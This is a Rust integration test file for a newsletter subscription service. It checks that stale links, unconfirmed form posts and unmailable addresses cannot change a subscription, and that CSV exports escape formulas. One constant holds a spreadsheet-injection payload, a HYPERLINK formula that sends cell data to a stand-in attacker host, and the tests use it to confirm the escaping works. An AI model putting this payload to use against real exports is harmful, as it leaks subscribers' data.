//! Nobody but a mailbox's owner acts on its subscription, through the real server: links bound to the subscription
//! they were made for (ids never reused), form posts that change nothing until confirmed, the consent history, one
//! address rule for every way in, and a CSV export that a spreadsheet cannot run. The confirmation mail queue is in
//! `web_confirmation_queue`.

use std::path::Path;
use std::process::Command;

use chrono::Duration as Span;
use weekly_verdicts::email_address::SubscriberEmail;
use weekly_verdicts::store::{Status, Store};
use weekly_verdicts::tokens::Purpose;

use crate::support::app::{TestApp, spawn_app};

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?d="&A2,"Click")"#;

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

/// `verdicts ARGS` on the store at `database`, mail into `dir/outbox`.
fn verdicts(dir: &Path, database: &Path, args: &[&str]) -> Run {
    let output = Command::new(env!("CARGO_BIN_EXE_verdicts"))
        .args(args)
        .current_dir(dir)
        .env_remove("VERDICTS_CONFIG")
        .env_remove("VERDICTS_SMTP_URL")
        .env("VERDICTS_DATABASE", database)
        .env("VERDICTS_OUTBOX_DIR", dir.join("outbox"))
        .output()
        .expect("verdicts runs");
    Run {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

fn status(app: &TestApp, email: &str) -> Option<Status> {
    app.subscriber(email).map(|s| s.status)
}

/// Subscribes through the form and confirms with the mailed link; returns the subscriber id.
async fn confirmed_reader(app: &TestApp, email: &str, mails_so_far: usize) -> u64 {
    app.subscribe(email, "").await;
    let mail = app.mails(mails_so_far + 1).await.remove(mails_so_far);
    assert_eq!(
        app.confirm(&app.confirm_path(&mail)).await.status(),
        200,
        "{email} confirms"
    );
    app.subscriber(email).unwrap().id
}

#[tokio::test]
async fn a_removed_readers_old_confirm_and_one_click_links_do_nothing_to_the_stranger_who_comes_next()
 {
    let app = spawn_app().await;
    app.subscribe("reader@example.org", "").await;
    let reader_mail = app.mails(1).await.remove(0);
    let old_confirm = app.confirm_path(&reader_mail);
    let reader = app.subscriber("reader@example.org").unwrap();
    // The one-click link the digest would have put in the reader's issues.
    let one_click = format!(
        "/unsubscribe/{}",
        app.tokens
            .sign(Purpose::Unsubscribe, reader.id, app.clock.now())
    );
    assert!(
        app.store()
            .remove(
                &SubscriberEmail::parse("reader@example.org").unwrap(),
                app.clock.now()
            )
            .unwrap()
    );

    app.subscribe("stranger@example.org", "").await;
    let stranger = app.subscriber("stranger@example.org").unwrap();
    assert_ne!(stranger.id, reader.id, "the removed reader's id was reused");
    let page = app.confirm(&old_confirm).await;
    assert_eq!(page.status(), 404);
    assert_eq!(
        status(&app, "stranger@example.org"),
        Some(Status::Pending),
        "an old confirm link confirmed a stranger"
    );

    let stranger_mail = app.mails(2).await.remove(1);
    app.confirm(&app.confirm_path(&stranger_mail)).await;
    assert_eq!(
        status(&app, "stranger@example.org"),
        Some(Status::Confirmed)
    );
    let answer = app
        .post_form(&one_click, &[("List-Unsubscribe", "One-Click")])
        .await;
    assert_eq!(answer.status(), 200);
    assert_eq!(
        status(&app, "stranger@example.org"),
        Some(Status::Confirmed),
        "an old one-click link unsubscribed a stranger"
    );
    // The removed reader's consent history outlives the removal.
    let dir = tempfile::tempdir().unwrap();
    let history = verdicts(
        dir.path(),
        app.config.database.sqlite_path().unwrap(),
        &["subscribers", "history", "reader@example.org"],
    );
    assert_eq!(history.code, 0, "{}", history.stderr);
    let events: Vec<&str> = history
        .stdout
        .lines()
        .skip(1)
        .filter_map(|line| line.split_whitespace().nth(2))
        .collect();
    assert_eq!(events, ["opt-in", "remove"], "{}", history.stdout);
}

#[tokio::test]
async fn a_form_post_by_a_stranger_changes_neither_a_pending_name_nor_an_unsubscribe_and_the_history_shows_it()
 {
    let app = spawn_app().await;
    // A pending reader's name stays until the owner confirms a change.
    app.subscribe("ann@example.org", "Ann").await;
    app.mails(1).await;
    app.clock.advance(Span::minutes(11));
    app.subscribe("ann@example.org", "Mallory Pick").await;
    let mails = app.mails(2).await;
    assert_eq!(
        app.subscriber("ann@example.org").unwrap().name.as_deref(),
        Some("Ann")
    );
    // The change is the mailbox owner's to make: it applies with the link mailed along with it.
    let to = mails[1].header("To").unwrap();
    assert!(to.contains("Mallory"), "{to}");
    let page = app
        .get(&app.confirm_path(&mails[1]))
        .await
        .text()
        .await
        .unwrap();
    assert!(
        page.contains("addressed to <strong>Mallory Pick</strong>"),
        "the owner sees the name before pressing the button: {page}"
    );
    app.confirm(&app.confirm_path(&mails[1])).await;
    let ann = app.subscriber("ann@example.org").unwrap();
    assert_eq!(
        (ann.status, ann.name.as_deref()),
        (Status::Confirmed, Some("Mallory Pick"))
    );

    // An unsubscribed reader stays unsubscribed, with the time they left.
    let bob = confirmed_reader(&app, "bob@example.org", 2).await;
    let token = app.tokens.sign(Purpose::Unsubscribe, bob, app.clock.now());
    app.post_form(&format!("/unsubscribe/{token}"), &[]).await;
    let left_at = app.clock.now();
    app.clock.advance(Span::days(1));
    let answer = app
        .post_json(
            "/subscribe",
            &serde_json::json!({ "email": "bob@example.org", "name": "Bobby" }),
        )
        .await;
    assert_eq!(answer.status(), 202);
    let bob_row = app.subscriber("bob@example.org").unwrap();
    assert_eq!(
        (bob_row.status, bob_row.unsubscribed_at, bob_row.name),
        (Status::Unsubscribed, Some(left_at), None)
    );
    // Until they follow the NEW link.
    let new_mail = app.mails(4).await.remove(3);
    app.confirm(&app.confirm_path(&new_mail)).await;
    let bob_row = app.subscriber("bob@example.org").unwrap();
    assert_eq!(
        (bob_row.status, bob_row.unsubscribed_at),
        (Status::Confirmed, None)
    );

    // The consent history, as the operator reads it.
    let dir = tempfile::tempdir().unwrap();
    let history = verdicts(
        dir.path(),
        app.config.database.sqlite_path().unwrap(),
        &["subscribers", "history", "BOB@example.org"],
    );
    assert_eq!(history.code, 0, "{}", history.stderr);
    let events: Vec<Vec<&str>> = history
        .stdout
        .lines()
        .skip(1)
        .map(|line| line.split_whitespace().skip(2).take(3).collect())
        .collect();
    assert_eq!(
        events,
        [
            ["opt-in", "form", "127.0.0.1"],
            ["confirm", "link", "127.0.0.1"],
            ["opt-out", "one-click", "127.0.0.1"],
            ["opt-in", "api", "127.0.0.1"],
            ["confirm", "link", "127.0.0.1"],
        ],
        "{}",
        history.stdout
    );
}

#[tokio::test]
async fn an_address_that_cannot_be_mailed_is_refused_by_the_form_the_api_the_cli_and_import_and_nothing_is_written()
 {
    let app = spawn_app().await;
    let unmailable = r#""a b"@example.org"#;
    let form = app.subscribe(unmailable, "").await;
    assert_eq!(form.status(), 400);
    assert!(form.text().await.unwrap().contains("cannot be mailed"));
    let api = app
        .post_json("/subscribe", &serde_json::json!({ "email": unmailable }))
        .await;
    assert_eq!(api.status(), 400);
    let body: serde_json::Value = api.json().await.unwrap();
    assert!(
        body["error"].as_str().unwrap().contains("cannot be mailed"),
        "{body}"
    );
    assert!(app.all_subscribers().is_empty());

    let dir = tempfile::tempdir().unwrap();
    let database = dir.path().join("verdicts.db");
    let add = verdicts(
        dir.path(),
        &database,
        &["subscribers", "add", unmailable, "--confirmed"],
    );
    assert_eq!(add.code, 3, "{}", add.stderr);
    assert!(add.stderr.contains("cannot be mailed"), "{}", add.stderr);
    let csv = dir.path().join("list.csv");
    std::fs::write(
        &csv,
        "email,name\nfine@example.org,Fine\n\"\"\"a b\"\"@example.org\",Spaced\n",
    )
    .unwrap();
    let import = verdicts(
        dir.path(),
        &database,
        &["subscribers", "import", csv.to_str().unwrap()],
    );
    assert_eq!(import.code, 3, "{}", import.stderr);
    assert!(
        import.stderr.contains("line 3") && import.stderr.contains("cannot be mailed"),
        "{}",
        import.stderr
    );
    assert!(
        Store::open_sqlite(&database)
            .unwrap()
            .list(None)
            .unwrap()
            .is_empty()
    );
}

#[tokio::test]
async fn a_formula_entered_as_a_name_is_exported_escaped_and_imports_back_unchanged() {
    let app = spawn_app().await;
    assert_eq!(
        app.subscribe("sheet@example.org", FORMULA).await.status(),
        200
    );
    let mail = app.mails(1).await.remove(0);
    app.confirm(&app.confirm_path(&mail)).await;
    assert_eq!(
        app.subscriber("sheet@example.org").unwrap().name.as_deref(),
        Some(FORMULA)
    );

    let dir = tempfile::tempdir().unwrap();
    let export = dir.path().join("export.csv");
    let run = verdicts(
        dir.path(),
        app.config.database.sqlite_path().unwrap(),
        &["subscribers", "export", "--out", export.to_str().unwrap()],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let text = std::fs::read_to_string(&export).unwrap();
    let row = text.lines().nth(1).unwrap();
    assert!(
        row.starts_with(r#"sheet@example.org,"'=HYPERLINK("#),
        "the cell would run in a spreadsheet: {row}"
    );

    let target = dir.path().join("imported.db");
    let run = verdicts(
        dir.path(),
        &target,
        &["subscribers", "import", export.to_str().unwrap()],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let imported = Store::open_sqlite(&target)
        .unwrap()
        .find_by_email(&SubscriberEmail::parse("sheet@example.org").unwrap())
        .unwrap()
        .unwrap();
    assert_eq!(imported.name.as_deref(), Some(FORMULA));
    assert_eq!(imported.status, Status::Confirmed);
}
